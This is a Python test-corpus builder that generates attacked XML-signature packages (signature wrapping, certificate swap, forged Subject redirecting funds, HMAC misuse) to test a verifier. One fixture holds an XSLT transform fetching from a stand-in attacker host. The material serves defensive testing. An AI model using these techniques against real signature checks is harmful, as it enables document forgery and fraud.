"""The signature-wrapping folder: packages signed with the test PKI, then attacked.

Two families. Packages signed the way QCVN 102 and lgsp sign (one enveloped ``Reference
URI=""``) and then damaged: a changed value, a swapped certificate, a corrupted value, a second
signature, an XSLT transform, an HMAC keyed with the public certificate; and the SHA-1 legacy
forms real traffic carries, valid but legacy. And packages whose signature points at one
element by ``Id`` — valid to a verifier that resolves the reference and stops there — with the
signed element moved aside and a forged copy put where a reader looks (XML signature
wrapping). :data:`FOOLS_NAIVE` names the files :func:`~._sigtools.naive_verify` accepts.

Certificates: the findings these files must produce are about the signature's form and
mathematics, never about trust or time, and the corpus ships no trust anchor; the signer's
certificate is nonetheless valid from 2024 to 2124 so that no reader reports it expired.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt

from cryptography.hazmat.primitives import serialization
from lxml import etree

from lgsp._xml import parse_whole
from lgsp.conformance.negative._base import EDXML_NS, document_bytes, edit, status_bytes
from lgsp.conformance.negative._sigtools import (
    DS,
    LEGACY_EXC,
    XSLT,
    enveloped_signed,
    header_of,
    id_signed,
    naive_verify,
    serialise,
)
from lgsp.signatures import KeySigner, sign_package, verify_package
from lgsp.testing.pki import Identity, make_pki

__all__ = ["FOOLS_NAIVE", "LEGACY", "build"]

_Q = "{" + EDXML_NS + "}"
_D = "{" + DS + "}"

#: Files whose signature a verifier that only resolves the reference would accept.
FOOLS_NAIVE = frozenset(
    {
        "moved-header-into-object.xml",
        "moved-header-into-wrapper.xml",
        "duplicate-id.xml",
        "reference-other-element.xml",
        "signature-over-object.xml",
        "xslt-transform.xml",
    }
)
#: Files signed correctly in the legacy SHA-1 forms (lgsp's interop policy accepts them).
LEGACY = frozenset({"legacy-sha1-xmldsig.xml", "legacy-qcvn-form.xml"})
_SUBJECT = "V/v triển khai kết nối, liên thông phần mềm quản lý văn bản"
_FORGED = "V/v tạm dừng triển khai kết nối, chuyển kinh phí về tài khoản mới"


def _identities() -> tuple[Identity, Identity]:
    """The signer and a second person of the same CA (for the swapped certificate)."""
    pki = make_pki(now=dt.datetime(2024, 5, 1, tzinfo=dt.UTC), organisation="lgsp corpus CA")
    start, end = dt.datetime(2024, 1, 1, tzinfo=dt.UTC), dt.datetime(2124, 1, 1, tzinfo=dt.UTC)
    signer = pki.issue("Văn thư Văn phòng Chính phủ", not_before=start, not_after=end)
    other = pki.issue("Người Khác", not_before=start, not_after=end)
    return signer, other


def _forged_copy(header: etree._Element) -> tuple[etree._Element, etree._Element]:
    """(the signed MessageHeader, a copy without its Id and with another Subject)."""
    signed = header.find(_Q + "MessageHeader")
    if signed is None:
        raise ValueError("the sample has no MessageHeader")
    forged = copy.deepcopy(signed)
    subject = forged.find(_Q + "Subject")
    if subject is None:
        raise ValueError("the sample has no Subject")
    subject.text = _FORGED
    return signed, forged


def _wrapped(signer: Identity, *, where: str) -> bytes:
    """Signature wrapping: the signed MessageHeader moved into the signature's Object
    (``object``), into a wrapper after the signature (``wrapper``), or into a wrapper
    before a forged copy that keeps the same Id (``duplicate``)."""
    root, sig = id_signed(document_bytes(), signer, target="MessageHeader", ident="msg-header")
    header = header_of(root)
    signed, forged = _forged_copy(header)
    if where != "duplicate":
        del forged.attrib["Id"]
    signed.addprevious(forged)
    indent = forged.tail
    if where == "object":
        etree.SubElement(sig, _D + "Object").append(signed)
        signed.tail = None
    else:
        wrapper = etree.Element(_Q + "Wrapper")
        wrapper.text = (indent or "") + "  "
        wrapper.append(signed)
        signed.tail = indent
        if where == "wrapper":
            sig.addnext(wrapper)
            wrapper.tail, sig.tail = sig.tail, indent
        else:
            forged.addprevious(wrapper)
            wrapper.tail = indent
    return serialise(root)


def _other_element(signer: Identity) -> bytes:
    """A signature over TraceHeaderList only; the MessageHeader it leaves out is changed."""
    root, _sig = id_signed(document_bytes(), signer, target="TraceHeaderList", ident="trace-list")
    return edit(serialise(root), _SUBJECT, _FORGED)


def _over_object(signer: Identity) -> bytes:
    """A valid signature over a note of its own (an Object): the package is not covered."""

    def add_object(sig: etree._Element) -> None:
        obj = etree.SubElement(sig, _D + "Object", Id="ghi-chu")
        obj.text = "Văn bản đã được ký số"

    root, _sig = id_signed(document_bytes(), signer, ident="ghi-chu", before_signing=add_object)
    return serialise(root)


def _xslt(signer: Identity) -> bytes:
    """An XSLT transform that fetches a remote document (a verifier that runs it is hurt);
    the digest is that of the package without it, so only the transform is wrong."""
    xsl = "http://www.w3.org/1999/XSL/Transform"

    def add_stylesheet(sig: etree._Element) -> None:
        node = sig.find(f"{_D}SignedInfo/{_D}Reference/{_D}Transforms/{_D}Transform[2]")
        if node is None:
            raise ValueError("no second transform")
        sheet = etree.SubElement(node, f"{{{xsl}}}stylesheet", version="1.0", nsmap={"xsl": xsl})
        template = etree.SubElement(sheet, f"{{{xsl}}}template", match="/")
        etree.SubElement(
            template, f"{{{xsl}}}copy-of", select="document('http://attacker.invalid/x.xml')"
        )

    root, _sig = enveloped_signed(
        document_bytes(), signer, extra=[XSLT], before_signing=add_stylesheet
    )
    return serialise(root)


def _mutated(signed: bytes, change: str, other: Identity) -> bytes:
    root = parse_whole(signed)
    sig = next(root.iter(_D + "Signature"))
    if change == "value":
        node = sig.find(_D + "SignatureValue")
        if node is None:
            raise ValueError("no SignatureValue")
        raw = bytearray(base64.b64decode(node.text or ""))
        raw[len(raw) // 2] ^= 0xFF
        node.text = base64.b64encode(bytes(raw)).decode("ascii")
    elif change == "keyinfo":
        cert = sig.find(f"{_D}KeyInfo/{_D}X509Data/{_D}X509Certificate")
        if cert is None:
            raise ValueError("no X509Certificate")
        der = other.certificate.public_bytes(serialization.Encoding.DER)
        cert.text = base64.b64encode(der).decode("ascii")
    else:  # a second signature block after the first, as a relay that signs again might add
        sig.addnext(copy.deepcopy(sig))
    return serialise(root)


def build() -> dict[str, bytes]:
    """Every file of the folder, by name; checked against a careless verifier and lgsp's
    own before it is returned, so a corpus that no longer attacks what it says cannot ship."""
    signer, other = _identities()
    key = KeySigner(signer.key, signer.certificate, chain=signer.chain)
    signed = sign_package(document_bytes(), key)
    files = {
        "moved-header-into-object.xml": _wrapped(signer, where="object"),
        "moved-header-into-wrapper.xml": _wrapped(signer, where="wrapper"),
        "duplicate-id.xml": _wrapped(signer, where="duplicate"),
        "reference-other-element.xml": _other_element(signer),
        "signature-over-object.xml": _over_object(signer),
        "xslt-transform.xml": _xslt(signer),
        "content-changed-after-signing.xml": edit(signed, _SUBJECT, _FORGED),
        "signature-value-corrupted.xml": _mutated(signed, "value", other),
        "keyinfo-swapped.xml": _mutated(signed, "keyinfo", other),
        "two-signatures.xml": _mutated(signed, "second", other),
        "hmac-with-public-certificate.xml": serialise(
            enveloped_signed(document_bytes(), signer, method="hmac-sha256")[0]
        ),
        "status-code-changed-after-signing.xml": edit(
            sign_package(status_bytes(), key), ">03</edXML:StatusCode>", ">06</edXML:StatusCode>"
        ),
        "legacy-sha1-xmldsig.xml": serialise(
            enveloped_signed(document_bytes(), signer, method="rsa-sha1", digest="sha1")[0]
        ),
        "legacy-qcvn-form.xml": serialise(
            enveloped_signed(
                document_bytes(),
                signer,
                ns=EDXML_NS,
                c14n_uri=LEGACY_EXC,
                method="rsa-sha1",
                digest="sha1",
            )[0]
        ),
    }
    for name in FOOLS_NAIVE:
        if not naive_verify(files[name]):
            raise RuntimeError(f"{name} no longer fools a careless verifier")
    for name in LEGACY:
        result = verify_package(files[name], policy="interop")
        if not (result.valid and result.legacy):
            raise RuntimeError(f"{name} is not a valid legacy signature: {result.reason}")
    return files
